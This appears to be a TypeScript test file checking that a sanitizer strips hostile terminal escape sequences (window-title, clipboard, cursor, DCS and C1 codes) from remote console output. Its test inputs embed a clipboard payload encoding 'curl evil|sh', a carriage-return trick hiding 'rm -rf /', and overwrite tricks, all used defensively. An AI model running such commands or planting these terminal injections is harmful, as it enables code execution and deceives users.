import { describe, expect, it } from 'vitest';
import { boundText, remoteLine, sanitizeTerminalText } from '../../../src/util/terminal-text.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Nothing a terminal would act on: no C0 but TAB/LF, no DEL, no C1, and ESC only as the start of an SGR. */
function assertInert(text: string): void {
  // eslint-disable-next-line no-control-regex
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u007f-\u009f]/);
  // eslint-disable-next-line no-control-regex
  const withoutSgr = text.replace(/\u001b\[[0-9;:]*m/g, '');
  expect(withoutSgr).not.toContain(ESC);
}

describe('sanitizeTerminalText: hostile sequences from a remote console', () => {
  it.each([
    ['OSC 0 window title (BEL)', `before${ESC}]0;pwned title${BEL}after`, 'beforeafter'],
    ['OSC 2 window title (ST)', `a${ESC}]2;title${ST}b`, 'ab'],
    ['OSC 52 clipboard write', `x${ESC}]52;c;${Buffer.from('curl evil|sh').toString('base64')}${BEL}y`, 'xy'],
    ['OSC 8 hyperlink keeps its text', `${ESC}]8;;https://evil.test${ST}click${ESC}]8;;${ST}`, 'click'],
    ['OSC without terminator eats the rest of the line only', `ok${ESC}]0;never ends\nnext line`, 'ok\nnext line'],
    ['CSI clear screen', `a${ESC}[2Jb`, 'ab'],
    ['CSI cursor home + erase line', `${ESC}[H${ESC}[2Kfake ✔ deployed`, 'fake ✔ deployed'],
    ['CSI cursor up / forward', `a${ESC}[3A${ESC}[10Cb`, 'ab'],
    ['CSI private mode (alternate screen, hide cursor)', `${ESC}[?1049h${ESC}[?25lx`, 'x'],
    ['CSI device status report (answerback)', `${ESC}[6nq`, 'q'],
    ['CSI with intermediates (DECSCUSR)', `${ESC}[2 qz`, 'z'],
    ['CSI malformed (control inside)', `a${ESC}[12\u0007b`, 'ab'],
    ['DCS (sixel / DECRQSS)', `a${ESC}P1$r0m${ST}b`, 'ab'],
    ['APC / PM / SOS', `a${ESC}_apc${ST}b${ESC}^pm${ST}c${ESC}Xsos${ST}d`, 'abcd'],
    ['ESC c full reset', `a${ESC}cb`, 'ab'],
    ['ESC 7 / ESC 8 save/restore cursor', `a${ESC}7b${ESC}8c`, 'abc'],
    ['ESC ( 0 line-drawing charset', `a${ESC}(0b`, 'ab'],
    ['ESC # 8 screen alignment', `a${ESC}#8b`, 'ab'],
    ['lone ESC at the end', `a${ESC}`, 'a'],
    ['8-bit CSI (U+009B)', `a\u009b2Jb`, 'ab'],
    ['8-bit OSC (U+009D) ended by U+009C', `a\u009d0;title\u009cb`, 'ab'],
    ['8-bit DCS (U+0090)', `a\u0090junk\u009cb`, 'ab'],
    ['other C1 (NEL, IND)', `a\u0085b\u0084c`, 'abc'],
    ['BEL', `ding${BEL}dong`, 'dingdong'],
    ['backspace overwrite', `safe\b\b\b\bevil`, 'safeevil'],
    ['vertical tab / form feed / NUL / DEL', `a\u000bb\u000cc\u0000d\u007fe`, 'abcde'],
    ['CR overwrite keeps what a terminal finally shows', `rm -rf /\rok     `, 'ok     '],
    ['progress bar', `10%\r50%\r100%`, '100%'],
    ['CRLF and trailing CR are line ends, not overwrites', `line one\r\nline two\r`, 'line one\nline two'],
  ])('%s', (_name, input, expected) => {
    const out = sanitizeTerminalText(input);
    expect(out).toBe(expected);
    assertInert(out);
  });

  it('keeps SGR colours (and drops them with color: false)', () => {
    const input = `${ESC}[1;31mred bold${ESC}[0m ${ESC}[38;2;255;0;0mtruecolor${ESC}[m ${ESC}[38:5:208mcolon${ESC}[39m`;
    expect(sanitizeTerminalText(input)).toBe(input);
    expect(sanitizeTerminalText(input, { color: false })).toBe('red bold truecolor colon');
  });

  it('drops an SGR-looking sequence with private markers or absurd length', () => {
    expect(sanitizeTerminalText(`a${ESC}[?31mb`)).toBe('ab');
    expect(sanitizeTerminalText(`a${ESC}[${'1;'.repeat(100)}mb`)).toBe('ab');
  });

  it('leaves plain text, tabs and non-ASCII untouched (the same string)', () => {
    const plain = 'Started by user deployer\t✓ ünïcödé 日本語 😀';
    expect(sanitizeTerminalText(plain)).toBe(plain);
  });

  it('never lets a sequence swallow the next line', () => {
    expect(sanitizeTerminalText(`a${ESC}P unterminated dcs\nb${ESC}[12`)).toBe('a\nb');
  });
});

describe('remoteLine and boundText', () => {
  it('remoteLine strips everything, folds lines and bounds the length', () => {
    expect(remoteLine(`In the quiet period.${ESC}]0;x${BEL}\n Expires in 4.6 sec${ESC}[31m`)).toBe('In the quiet period. Expires in 4.6 sec');
    expect(remoteLine('x'.repeat(500), 50)).toHaveLength(50);
  });

  it('boundText does not split a surrogate pair', () => {
    const cut = boundText(`ab😀cd`, 4, '…');
    expect(cut).toBe('ab…');
  });
});
